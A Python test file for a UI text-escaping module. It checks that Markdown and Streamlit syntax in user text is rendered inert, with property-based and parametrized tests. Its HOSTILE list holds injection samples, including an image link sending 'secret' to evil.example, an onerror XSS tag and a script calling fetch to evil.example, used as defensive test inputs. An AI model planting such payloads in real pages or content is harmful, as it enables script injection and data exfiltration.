"""Text made inert: what Markdown would rewrite is escaped, and nothing else is changed."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ui.escape import clean, escape, prose

HOSTILE = (
    "![x](https://evil.example/p?d=secret)", "[clic](https://evil.example)",
    "https://evil.example/x et www.evil.example et a@evil.example", "<img src=x onerror=alert(1)>",
    "<script>fetch('//evil.example')</script>", "$30 à 50$ et $$x^2$$",
    ":red[rouge] :material/home:",
    ":streamlit: :smile: :+1:", "a -- b -> c <- d >= e <= f ~= g <-> h", "~~x~~ **g** _i_ `c` [^1]",
    "# titre", "1. un", "- puce", "> dit", "| a | b |", "---", "===", "```", "&nbsp; &#106; &lt;",
    "fin\\", "::: {.x}", "*" * 40, "[" * 40,
)  # fmt: skip


def rendered(markdown: str) -> str:
    """Visible text of a CommonMark document with GitHub's extensions, directives resolved."""
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    html = re.sub(r":[a-z-]+\[(.*?)\](?:\{\})?", r"\1", html, flags=re.DOTALL)
    text = re.sub(r"<br ?/>\n?|</p>\n<p>", "\n", html)
    text = re.sub(r"</?p>", "", text)
    assert not re.search(r"<(?!/?(p|br))[a-z]", text), text
    for entity, sign in (("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&amp;", "&")):
        text = text.replace(entity, sign)
    return " ".join(text.split())


def visible(text: str) -> str:
    return " ".join(clean(text).split())


@pytest.mark.parametrize("text", [h for h in HOSTILE if "[" not in h and ":" not in h])
def test_a_hostile_line_is_seen_as_written(text: str) -> None:
    assert rendered(escape(text)) == visible(text)


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=120))
def test_every_ascii_punctuation_sign_is_escaped(text: str) -> None:
    inert = escape(text)
    bare = re.sub(r":color\[((?:\\?.))\]\{\}|:color\[(\w+)\]\{\}", r"\1\2", inert)
    # Once the cuts are joined, a sign that Markdown knows never stands without its backslash.
    assert not re.search(r"(?<!\\)(?:\\\\)*[!-/:-@\[-`{-~]", re.sub(r"\\[!-/:-@\[-`{-~]", "", bare))
    assert re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", bare) == " ".join(
        re.sub(r"[^\S\u00a0\u202f]+", " ", clean(text)).split(" ")
    ).strip(" ")


@given(st.text(alphabet="ab <>-=~:/.@w*[]()#$|\\`\n", max_size=60))
def test_prose_loses_no_word_and_adds_none(text: str) -> None:
    words = re.sub(r"[\W_]+", " ", text).split()
    inert = re.sub(r":color\[", "", prose(text))
    assert re.sub(r"[\W_]+", " ", inert).split() == re.sub(r"[\W_]+", " ", text).split() == words


@pytest.mark.parametrize(
    ("text", "cut"),
    [
        ("a -- b", r"a \-:color[\-]{} b"),
        ("x -> y", r"x \-:color[\>]{} y"),
        ("x >= y", r"x \>:color[\=]{} y"),
        ("https://a.b", r"https:color[\:]{}\/\/a\.b"),
        ("www.a.b", r"www:color[\.]{}a\.b"),
        ("a@b.c", r"a:color[\@]{}b\.c"),
        (":streamlit:", r"\::color[streamlit]{}\:"),
    ],
)
def test_what_streamlit_rewrites_after_parsing_is_cut_in_two(text: str, cut: str) -> None:
    assert escape(text) == cut


def test_marks_are_highlighted_and_the_rest_is_not() -> None:
    assert prose("un deux trois", [(3, 7)]) == "un :yellow-background[deux] trois"


def test_a_mark_over_two_paragraphs_is_highlighted_in_each() -> None:
    marked = prose("un deux\n\ntrois quatre", [(3, 14)])
    assert marked == "un :yellow-background[deux]\n\n:yellow-background[trois] quatre"


def test_a_line_end_within_a_paragraph_is_kept() -> None:
    assert prose("un\ndeux") == "un\\\ndeux"


def test_blanks_at_the_edges_of_a_mark_stay_outside_it() -> None:
    assert prose("a b c", [(1, 4)]) == "a :yellow-background[b] c"


@pytest.mark.parametrize("text", ["", " ", "\n\n\n", "\u202e\u200b", "\ud800"])
def test_text_without_anything_to_see_is_empty(text: str) -> None:
    assert escape(text) == ""


def test_direction_overrides_and_surrogates_are_dropped_and_nul_is_shown() -> None:
    assert clean("a\u202eb\ud800c\x00d\x07") == "abc\ufffdd"
